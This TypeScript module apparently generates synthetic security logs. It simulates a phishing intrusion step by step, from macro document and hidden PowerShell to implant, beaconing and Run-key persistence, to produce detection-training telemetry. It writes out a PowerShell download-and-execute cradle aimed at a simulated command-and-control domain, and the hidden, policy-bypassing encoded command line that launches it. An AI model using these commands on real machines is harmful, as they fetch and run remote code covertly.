import { visit, zeekLog } from '../network-events.js';
import { sessionOf } from '../sessions.js';
import { COMMAND_AND_CONTROL } from '../sites.js';
import { fileCreated, registryValueSet } from '../sysmon-events.js';
import { processLogged, scriptBlock } from '../windows-log-events.js';
import { OFFICE, POWERSHELL, SYSTEM32 } from '../windows-programs.js';
import type { World } from '../world.js';
import { implant, library } from './implant.js';
import type { IntrusionCast, PlannedStep } from './intrusion-plan.js';

const MINUTE = 60_000;
const ATTACHMENT = 'Invoice-2026-4471.docm';
const CRADLE = `IEX (New-Object Net.WebClient).DownloadString('http://${COMMAND_AND_CONTROL.domain}/assets/upd.ps1')`;
const ENCODED_CRADLE = Buffer.from(CRADLE, 'utf16le').toString('base64');

function attachmentPath({ victim }: IntrusionCast): string {
  return `C:\\Users\\${victim.account}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8F21C0DE\\${ATTACHMENT}`;
}

function deliver(world: World, time: number, cast: IntrusionCast): void {
  const outlook = world.windows(cast.workstation).running(`${OFFICE}OUTLOOK.EXE`, sessionOf(world, cast.victim));
  world.emit(time, 'sysmon', fileCreated(cast.workstation, time, outlook, attachmentPath(cast)));
}

function openDocument(world: World, time: number, cast: IntrusionCast): void {
  const host = world.windows(cast.workstation);
  const session = sessionOf(world, cast.victim);
  const word = host.start(time, {
    image: `${OFFICE}WINWORD.EXE`,
    commandLine: `"${OFFICE}WINWORD.EXE" /n "${attachmentPath(cast)}" /o ""`,
    parent: host.running(`${OFFICE}OUTLOOK.EXE`, session),
  });
  const shell = host.start(time + 14_000, {
    image: POWERSHELL,
    commandLine: `powershell.exe -nop -w hidden -ep bypass -enc ${ENCODED_CRADLE}`,
    parent: word,
    stays: true,
  });
  world.emit(time + 14_001, 'windows', processLogged(cast.workstation, time + 14_001, shell, word));
}

function download(world: World, time: number, cast: IntrusionCast): void {
  const shell = world.windows(cast.workstation).running(POWERSHELL, sessionOf(world, cast.victim));
  world.emit(time, 'windows', scriptBlock(cast.workstation, time, { text: CRADLE, id: world.random.uuid() }));
  const id = visit(world, time + 200, {
    machine: cast.workstation,
    process: shell,
    site: COMMAND_AND_CONTROL,
    port: 80,
    sent: 310,
    received: 84_112,
    lasted: 900,
  });
  zeekLog(world, time + 400, 'http', {
    ...id,
    trans_depth: 1,
    method: 'GET',
    host: COMMAND_AND_CONTROL.domain,
    uri: '/assets/upd.ps1',
    user_agent: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-GB) WindowsPowerShell/5.1.19041.4894',
    request_body_len: 0,
    response_body_len: 83_704,
    status_code: 200,
    status_msg: 'OK',
    resp_mime_types: ['text/plain'],
  });
}

function load(world: World, time: number, cast: IntrusionCast): void {
  const host = world.windows(cast.workstation);
  const shell = host.running(POWERSHELL, sessionOf(world, cast.victim));
  world.emit(time, 'sysmon', fileCreated(cast.workstation, time, shell, library(cast)));
  host.start(time + 1_500, {
    image: `${SYSTEM32}rundll32.exe`,
    commandLine: `rundll32.exe ${library(cast)},Start`,
    parent: shell,
    stays: true,
  });
}

/** A beacon every six minutes or so for the rest of the intrusion. */
function beacon(world: World, time: number, cast: IntrusionCast): void {
  const process = implant(world, cast);
  let moment = time;
  for (let beat = 0; beat < 52; beat += 1) {
    visit(world, moment, {
      machine: cast.workstation,
      process,
      site: COMMAND_AND_CONTROL,
      cached: beat % 8 !== 0,
      sent: world.random.int(420, 520),
      received: world.random.int(180, 260),
      lasted: world.random.int(300, 700),
    });
    moment += Math.round(6 * MINUTE * (0.85 + world.random.float() * 0.3));
  }
}

function persist(world: World, time: number, cast: IntrusionCast): void {
  const value = {
    key: `HKU\\${cast.victim.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\TelemetryCache`,
    details: `rundll32.exe ${library(cast)},Start`,
  };
  world.emit(time, 'sysmon', registryValueSet(cast.workstation, time, implant(world, cast), value));
}

const ON_WORKSTATION = { host: 'workstation', user: 'victim' } as const;

/** From the mail to an implant that starts at every logon, on the victim's workstation. */
export const FOOTHOLD: readonly PlannedStep[] = [
  {
    ...ON_WORKSTATION,
    step: 'phishing-mail',
    minute: 581,
    technique: 'T1566.001',
    tactic: 'initial-access',
    act: deliver,
    description: 'A mail with a macro document reaches an accountant, and Outlook stores the attachment',
  },
  {
    ...ON_WORKSTATION,
    step: 'macro',
    minute: 584,
    technique: 'T1204.002',
    tactic: 'execution',
    act: openDocument,
    description: 'The document is opened and its macro starts encoded PowerShell in a hidden window',
  },
  {
    ...ON_WORKSTATION,
    step: 'download',
    minute: 585,
    technique: 'T1105',
    tactic: 'command-and-control',
    act: download,
    description: 'PowerShell downloads a script from the command and control server and runs it',
  },
  {
    ...ON_WORKSTATION,
    step: 'implant',
    minute: 587,
    technique: 'T1218.011',
    tactic: 'stealth',
    act: load,
    description: 'A library is dropped into the roaming profile and loaded with rundll32',
  },
  {
    ...ON_WORKSTATION,
    step: 'beacon',
    minute: 588,
    technique: 'T1071.001',
    tactic: 'command-and-control',
    act: beacon,
    description: 'The implant calls its server every six minutes or so, for five hours',
  },
  {
    ...ON_WORKSTATION,
    step: 'run-key',
    minute: 593,
    technique: 'T1547.001',
    tactic: 'persistence',
    act: persist,
    description: 'A Run value starts the implant at every logon',
  },
];
